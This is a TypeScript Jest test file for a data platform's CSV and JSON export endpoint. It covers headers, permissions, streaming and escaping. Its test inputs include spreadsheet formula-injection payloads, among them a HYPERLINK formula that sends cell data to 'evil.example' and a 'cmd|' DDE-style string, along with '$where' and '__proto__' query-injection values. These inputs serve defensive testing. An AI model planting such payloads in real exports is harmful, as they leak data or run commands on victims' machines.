import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { afterEach, describe, expect, it, jest } from '@jest/globals';
import { randomId as newId } from '@lathe/platform/ids/random-id';
import { until } from '@lathe/platform/testing/until';
import { CONNECTION } from '@lathe/platform/tokens/tokens';
import type { Connection } from 'mongoose';
import { RowRepository } from '../../src/rows/row.repository.js';
import { dog } from './kennel.js';
import { useKennel } from './use-kennel.js';

type Row = Record<string, unknown> & { id: string };

const hard = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"x")',
  '+49 30 1234',
  '-5',
  '-2+3+cmd|x',
  '@handle',
  '\t=1',
  '\r=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  "'=already",
  'comma, "quote"',
  'two\nlines',
  'cr\rin',
  ' spaces ',
  '007',
  '1e5',
  'NULL',
  'é 𝒳 عربى',
];

describe('an export', () => {
  const { kennel, app, call, upload } = useKennel([
    dog,
    { ...dog, name: 'Copy', 'x-key': 'e_copy' },
    { ...dog, name: 'Own', 'x-key': 'e_own', permissions: { read: 'creator', write: 'creator' } },
    { ...dog, name: 'Drop', 'x-key': 'e_drop', permissions: { read: 'none', write: 'all' } },
  ]);
  afterEach(() => void jest.restoreAllMocks());
  const exported = (query = '', entity = 'Dog', as = call) => as('GET', `/${entity}/export${query && `?${query}`}`);
  const many = (count: number, breed = 'x'.repeat(200)) =>
    kennel.lathe.service.app
      .get<Connection>(CONNECTION, { strict: false })
      .collection<{ _id: string }>('rows')
      .insertMany(
        Array.from({ length: count }, (_, index) => ({
          _id: newId(),
          appId: app().appId,
          entityKey: 'e_dog',
          creatorId: null,
          createdAt: new Date(1_700_000_000_000 + Math.floor(index / 3)),
          updatedAt: new Date(),
          data: { f_name: `dog ${index}`, f_breed: breed, f_weight: index % 50 },
        })),
      );

  it('is CSV with a header, all fields and a name', async () => {
    const { id, createdAt, updatedAt } = (
      await call('POST', '/Dog', {
        body: {
          name: 'Ada, "the" dog',
          weight: -1.5 + 2,
          tags: ['a', 'b'],
          home: { city: 'Oslo' },
          extra: 'kept apart',
        },
      })
    ).json;
    const { status, headers, text } = await exported();
    expect(status).toBe(200);
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="Dog.csv"',
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
    });
    expect(text).toBe(
      'id,name,breed,weight,good,status,born,seen,email,tags,home,createdAt,updatedAt,creatorId\r\n' +
        `${id},"Ada, ""the"" dog",,0.5,true,,,,,"a, b","{""city"":""Oslo""}",${createdAt},${updatedAt},\r\n`,
    );
  });

  it('begins with a byte order mark where that is asked for, and can be of some fields', async () => {
    await call('POST', '/Dog', { body: { name: 'Ada', extra: 'x' } });
    expect((await exported('bom=true&fields=extra,name')).text).toMatch(
      /^\ufeffid,extra,name\r\n[0-9a-f]{24},x,Ada\r\n$/,
    );
    expect((await exported('fields=id,name&format=csv&bom=false')).text).toMatch(/^id,name\r\n[0-9a-f]{24},Ada\r\n$/);
  });

  it('is JSON of what a list answers', async () => {
    await call('POST', '/Dog/bulk', {
      body: hard.map((breed, index) => ({ name: `dog ${index}`, breed, extra: [index] })),
    });
    const answer = await exported('format=json&sort=name');
    expect(answer.headers).toMatchObject({
      'content-type': 'application/json; charset=utf-8',
      'content-disposition': 'attachment; filename="Dog.json"',
    });
    expect(answer.json).toEqual((await call('GET', '/Dog?sort=name&limit=5000')).json);
    expect((await exported('format=json&fields=name&q={"name":"dog 1"}')).json).toEqual([
      { id: expect.any(String), name: 'dog 1' },
    ]);
  });

  it('of nothing is a header, or an empty list', async () => {
    expect((await exported('fields=name')).text).toBe('id,name\r\n');
    expect((await exported('format=json')).json).toEqual([]);
  });

  it('as CSV comes in again as it was: no cell is a formula, and none loses anything', async () => {
    const rows = hard.map((breed, index) => ({
      name: `dog ${String(index).padStart(2, '0')}`,
      breed,
      weight: index / 7,
      good: index % 2 === 0,
      tags: [breed, 'b'].slice(index % 2),
      home: { city: breed },
      status: 'young',
      born: '2020-02-29',
    }));
    await call('POST', '/Dog/bulk', { body: rows });
    for (const query of ['', 'bom=true']) {
      await call('DELETE', '/Copy', { body: { all: true } });
      const { text } = await exported(query);
      for (const line of text.split(/\r\n/))
        for (const cell of line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
          expect(cell.replace(/^\ufeff/, '')).not.toMatch(/^"?[=+@\t\r＝＋－＠]|^"?-(?!\d+(\.\d+)?"?$)/);
      expect((await upload('Copy', text)).json).toMatchObject({ status: 'success', inserted: hard.length });
      const copies = (await call('GET', '/Copy?sort=name')).json.map(own);
      expect(copies).toEqual((await call('GET', '/Dog?sort=name')).json.map(own));
    }
  });
  const own = ({ id: _, createdAt: __, updatedAt: ___, ...row }: Row) => row;

  it('holds what the caller may read, and nothing else', async () => {
    const { ada, bob, builder, visitor } = await kennel.roles(app());
    for (const { call: as } of [ada, bob]) await as('POST', '/Own', { body: { name: 'dog' } });
    const creators = async (as: typeof visitor) =>
      (await exported('format=json', 'Own', as)).json.map(({ creatorId }: Row) => creatorId).sort();
    expect(await creators(ada.call)).toEqual([ada.id]);
    expect(await creators(visitor)).toEqual([]);
    expect(await creators(builder)).toEqual([ada.id, bob.id].sort());
    expect(
      (await exported(`format=json&q={"$or":[{"creatorId":"${bob.id}"},{"name":"dog"}]}`, 'Own', ada.call)).json,
    ).toHaveLength(1);
    await call('POST', '/Drop', { body: { name: 'x' } });
    expect((await exported('fields=name', 'Drop')).text).toBe('id,name\r\n');
    expect((await exported('', 'Nothing')).json.code).toBe('entity/unknown');
  });

  it.each([
    ['format=xml', 'malformed-request'],
    ['format=csv&format=json', 'malformed-request'],
    ['bom=yes', 'malformed-request'],
    ['sort=$where', 'malformed-request'],
    ['fields=__proto__', 'malformed-request'],
    ['q=[]', 'entity/bad-query'],
    ['q={"$where":"1"}', 'entity/bad-query'],
  ])('is refused as a list is: %s', async (query, code) => {
    const answer = await exported(query);
    expect([answer.status, answer.json.code]).toEqual([400, code]);
  });

  it.each(['', 'sort=weight', 'sort=-name'])('of many rows has each once and in order: %j', async (sort) => {
    await many(5_000, 'x');
    const list = (await call('GET', `/Dog?limit=5000&fields=name&${sort}`)).json;
    const slices = jest.spyOn(kennel.lathe.service.app.get(RowRepository, { strict: false }), 'list');
    expect((await exported(`format=json&fields=name&${sort}`)).json).toEqual(list);
    expect(slices.mock.calls.length).toBe(sort ? 1 : 6);
  });

  it.each(['', 'sort=weight'])(
    'of more than the database answers at once has each row once and in order: %j',
    async (sort) => {
      await many(120, 'x'.repeat(200_000));
      const list = (await call('GET', `/Dog?limit=200&fields=name&${sort}`)).json as Row[];
      expect(new Set(list.map(({ id }) => id)).size).toBe(120);
      expect((await exported(`format=json&fields=name&${sort}`)).json).toEqual(list);
    },
  );

  describe('to a client', () => {
    const sockets: Socket[] = [];
    afterEach(() => sockets.splice(0).forEach((socket) => socket.destroy()));
    const open = async (): Promise<Socket> => {
      const { server } = kennel.lathe.service;
      if (!server.server.listening) await server.listen({ host: '127.0.0.1', port: 0 });
      const socket = connect((server.server.address() as { port: number }).port, '127.0.0.1');
      sockets.push(socket);
      socket.pause();
      socket.write(`GET /live_api/apps/${app().appId}/entities/Dog/export HTTP/1.1\r\nHost: ${app().host}\r\n\r\n`);
      return socket;
    };

    it('that takes nothing reads no more than it holds, and its place is free again when it goes', async () => {
      await many(30_000, 'x'.repeat(1_000));
      const slices = jest.spyOn(kennel.lathe.service.app.get(RowRepository, { strict: false }), 'list');
      const ended = jest.fn();
      const first = await open();
      await open();
      await until(() => slices.mock.calls.length >= 2);
      void exported('fields=id').then(ended);
      first.destroy();
      await until(() => ended.mock.calls.length === 1);
      // The second socket has been stuck all the while in which a whole file was read.
      const { calls } = slices.mock;
      expect(calls.length).toBeGreaterThan(30);
      expect(calls.length).toBeLessThan(31 + 40);
    });

    it('that takes it gets all of it', async () => {
      await many(3_000);
      const socket = await open();
      let bytes = '';
      socket.on('data', (data: Buffer) => (bytes += data.toString('latin1'))).resume();
      await until(() => bytes.endsWith('\r\n0\r\n\r\n'));
      expect(bytes.match(/dog \d+/g)).toHaveLength(3_000);
      socket.destroy();
      await once(socket, 'close');
    });

    it('is broken off, and not ended, where a later part fails', async () => {
      await many(3_000);
      const rows = kennel.lathe.service.app.get(RowRepository, { strict: false });
      const list = rows.list.bind(rows);
      const slices = jest.spyOn(rows, 'list').mockImplementation((...given) => {
        if (slices.mock.calls.length > 2) throw new Error('the store is away');
        return list(...given);
      });
      const socket = await open();
      let bytes = '';
      socket.on('data', (data: Buffer) => (bytes += data.toString('latin1'))).resume();
      await once(socket, 'close');
      expect(bytes).toMatch(/^HTTP\/1.1 200/);
      expect(bytes).not.toContain('\r\n0\r\n\r\n');
      expect(bytes).not.toContain('the store is away');
    });
  });
});
